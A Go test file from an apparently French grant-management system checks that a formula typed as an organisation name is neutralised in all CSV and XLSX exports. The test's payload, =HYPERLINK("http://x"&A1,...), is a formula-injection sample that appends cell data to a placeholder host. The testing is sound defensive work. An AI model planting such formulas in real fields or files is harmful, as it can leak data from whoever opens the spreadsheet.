package httpapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/tremplin/tremplin/internal/domain"
	"github.com/tremplin/tremplin/internal/opendata"
	"github.com/tremplin/tremplin/internal/server/servertest"
	"github.com/tremplin/tremplin/internal/sheet"
)

const formulaName = `=HYPERLINK("http://x"&A1,"clic")`

// renameOrg renames an organisation through its form, as its admin would.
func renameOrg(t *testing.T, c *servertest.Client, orgID int64, name string) {
	t.Helper()
	path := fmt.Sprintf("/api/v1/organisations/%d", orgID)
	r := c.Get(path)
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	o := r.Map(t)
	str := func(k string) string {
		if v, ok := o[k].(string); ok {
			return v
		}
		return ""
	}
	body := map[string]any{"legal_name": name, "siret": str("siret"), "rna": str("rna"), "legal_form": str("legal_form"),
		"address": str("address"), "postal_code": str("postal_code"), "city": str("city"), "commune_insee": str("commune_insee"),
		"profile": o["profile"], "version": o["version"]}
	r = c.Do(http.MethodPut, path, body)
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
}

// inertCSV parses an export and checks that no cell could be evaluated by a
// spreadsheet; it returns the rows.
func inertCSV(t *testing.T, body []byte, comma rune) [][]string {
	t.Helper()
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	cr.Comma = comma
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	require.NoError(t, err)
	for i, row := range rows {
		for j, cell := range row {
			require.False(t, sheet.Dangerous(cell), "row %d, column %d is live: %q", i, j, cell)
		}
	}
	return rows
}

func containsCell(rows [][]string, want string) bool {
	for _, row := range rows {
		for _, cell := range row {
			if cell == want {
				return true
			}
		}
	}
	return false
}

// inertXLSX checks that a workbook has no formula at all and that the
// applicant's text is a string cell; it returns how many cells hold it.
func inertXLSX(t *testing.T, body []byte, text string) int {
	t.Helper()
	require.Equal(t, "PK", string(body[:2]))
	f, err := excelize.OpenReader(bytes.NewReader(body))
	require.NoError(t, err)
	defer f.Close()
	found := 0
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		require.NoError(t, err)
		for i, row := range rows {
			for j, v := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				formula, err := f.GetCellFormula(name, cell)
				require.NoError(t, err)
				require.Empty(t, formula, "%s!%s holds a formula", name, cell)
				if v == text {
					typ, err := f.GetCellType(name, cell)
					require.NoError(t, err)
					require.Contains(t, []excelize.CellType{excelize.CellTypeSharedString, excelize.CellTypeInlineString}, typ, cell)
					found++
				}
			}
		}
	}
	return found
}

// TestFormulaInAnOrganisationNameIsInertInEveryExport follows the attack
// of the issue: an applicant names their organisation with a formula, gets a
// grant, and every export staff or the public open shows it as inert text.
// Open data names the beneficiary as at the decision, whatever the
// organisation is called afterwards.
func TestFormulaInAnOrganisationNameIsInertInEveryExport(t *testing.T) {
	t.Parallel()
	s := servertest.Start(t, servertest.Options{NoWorker: true})
	ctx := context.Background()
	var a6 struct {
		ID        int64 `bun:"id"`
		OrgID     int64 `bun:"org_id"`
		CallID    int64 `bun:"call_id"`
		Requested int64 `bun:"requested_cents"`
	}
	require.NoError(t, s.DB.NewSelect().TableExpr("applications").Column("id", "org_id", "call_id", "requested_cents").
		Where("title LIKE 'Prêt de vélos%'").Scan(ctx, &a6))
	owner := s.Login(t, "porteuse@demo.tremplin.fr")
	committee := s.Login(t, "comite@demo.tremplin.fr")
	lead := s.Login(t, "cheffe.projet@demo.tremplin.fr")
	renameOrg(t, owner, a6.OrgID, formulaName)

	var sessions struct {
		Items []struct {
			ID int64 `json:"id"`
		} `json:"items"`
	}
	committee.Get(fmt.Sprintf("/api/v1/calls/%d/committee-sessions", a6.CallID)).JSON(t, &sessions)
	require.NotEmpty(t, sessions.Items)
	sid := sessions.Items[0].ID
	r := committee.Post(fmt.Sprintf("/api/v1/applications/%d/decisions", a6.ID), map[string]any{"kind": "accept",
		"amount_cents": min(a6.Requested, 5_000_00), "deliberation_ref": "CP-2026-03-12", "deliberation_on": "2026-03-12", "session_id": sid})
	require.Equal(t, http.StatusCreated, r.Status, string(r.Body))
	r = lead.Post(fmt.Sprintf("/api/v1/committee-sessions/%d/publish", sid), nil)
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))

	neutral := "'" + formulaName
	r = committee.Get(fmt.Sprintf("/api/v1/calls/%d/ranking.csv", a6.CallID))
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.True(t, containsCell(inertCSV(t, r.Body, ';'), neutral), "ranking CSV")

	r = lead.Get("/api/v1/instruction/applications/export")
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.True(t, containsCell(inertCSV(t, r.Body, ';'), neutral), "instruction CSV")

	anon := s.Anonymous(t)
	r = anon.Get("/api/v1/opendata/subventions.csv")
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.Empty(t, opendata.ValidateSCDLStrict(bytes.NewReader(r.Body)), "still a valid SCDL file")
	require.True(t, containsCell(inertCSV(t, r.Body, ','), neutral), "open data CSV")

	r = committee.Get(fmt.Sprintf("/api/v1/calls/%d/ranking.xlsx", a6.CallID))
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.Equal(t, 1, inertXLSX(t, r.Body, formulaName), "ranking XLSX")

	var decided time.Time
	require.NoError(t, s.DB.NewSelect().TableExpr("experiments").Column("decided_at").Where("application_id = ?", a6.ID).Scan(ctx, &decided))
	r = lead.Get(fmt.Sprintf("/api/v1/dashboards/jaune.xlsx?year=%d", decided.In(domain.Paris).Year()))
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.Positive(t, inertXLSX(t, r.Body, formulaName), "jaune budgétaire XLSX")

	// Renamed afterwards: the open data keeps the name of the decision.
	renameOrg(t, owner, a6.OrgID, "Mobil'Emploi (nouveau nom)")
	r = anon.Get("/api/v1/opendata/subventions.csv")
	require.Equal(t, http.StatusOK, r.Status)
	rows := inertCSV(t, r.Body, ',')
	require.True(t, containsCell(rows, neutral))
	require.False(t, containsCell(rows, "Mobil'Emploi (nouveau nom)"))
	r = anon.Get("/api/v1/opendata/subventions")
	require.Equal(t, http.StatusOK, r.Status)
	require.Contains(t, string(r.Body), `"beneficiary":"=HYPERLINK(\"http://x\"\u0026A1,\"clic\")"`, "JSON needs no neutralising")
	require.NotContains(t, string(r.Body), "nouveau nom")
}
